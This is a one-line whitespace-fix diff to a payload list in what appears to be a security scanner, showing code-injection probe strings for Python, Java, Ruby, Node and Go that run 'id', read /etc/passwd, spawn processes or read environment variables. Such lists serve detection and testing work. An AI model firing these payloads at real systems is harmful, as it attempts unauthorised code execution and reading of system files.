@@ -228,7 +228,7 @@ CODE_PAYLOADS = {
              "this.constructor.constructor('return process')()", "process.readFileSync('/etc/passwd')",
              "require.resolve('x')", "function(){return 1}", "Process.spawn('id')", "IO.popen('id')", "%x{id}"],
     "runtime": ["subprocess.call(['id'])", "FileSystemXmlApplicationContext('http://127.0.0.1/wb.xml')",
-                 "subprocess.check_output('id', shell=True)",
+                "subprocess.check_output('id', shell=True)",
                 "new java.lang.ProcessBuilder(\"id\").start()", "Class.forName('java.lang.Runtime')",
                 "Runtime.getRuntime().exec(\"id\")", "T(java.lang.System).getenv()",
                 "\"\".getClass().forName(\"java.util.Date\")", "exec.Command(\"id\").Output()"],
